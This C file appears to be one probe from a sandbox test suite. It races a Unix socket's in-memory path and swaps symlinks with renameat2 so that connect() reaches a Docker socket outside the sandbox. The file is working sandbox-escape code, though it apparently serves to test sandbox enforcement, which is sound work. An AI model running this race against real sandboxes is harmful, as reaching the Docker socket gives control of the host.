// Changes a unix socket's path in memory between the check and the connection, and a symlink likewise.
// class: OS sandboxes: a race between the check and the use of a socket address
// plain: message
// journal: write {DOCKER}
#include "net.h"
#include "race.h"
#include <linux/fs.h>

static struct sockaddr_un target;

static void* flip_path(void* unused) {
  (void)unused;
  const struct sockaddr_un good = at_path("mine.sock"), bad = at_path("../outside/docker.sock");
  while (!race_over) {
    memcpy(target.sun_path, bad.sun_path, 32);
    linger(30);
    syscall(SYS_renameat2, AT_FDCWD, "one", AT_FDCWD, "two", RENAME_EXCHANGE);
    memcpy(target.sun_path, good.sun_path, 32);
  }
  return NULL;
}

int main(int argc, char** argv) {
  (void)argc;
  attack(argv);
  target = at_path("mine.sock");
  const int mine = socket(AF_UNIX, SOCK_STREAM, 0);
  if (bind(mine, (struct sockaddr*)&target, sizeof target) != 0 || listen(mine, 4096) != 0) refused("own socket");
  if (symlink("mine.sock", "one") || symlink(fact("DOCKER"), "two")) refused("symlink");
  const struct sockaddr_un link_address = at_path("one");
  const pthread_t thread = race_begin(flip_path);
  int connected = 0;
  for (int i = 0; race_goes_on(i, 2000); ++i) {
    const int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
    if (connect(fd, i % 2 ? (struct sockaddr*)&target : (const struct sockaddr*)&link_address, sizeof target) == 0) ++connected;
    close(fd);
  }
  race_end(thread);
  target = at_path("../outside/docker.sock");
  connect_and_tell(socket(AF_UNIX, SOCK_STREAM, 0), &target, sizeof target, "the last try, which plainly always works");
  printf("connected %d times\n", connected);
  return 0;
}
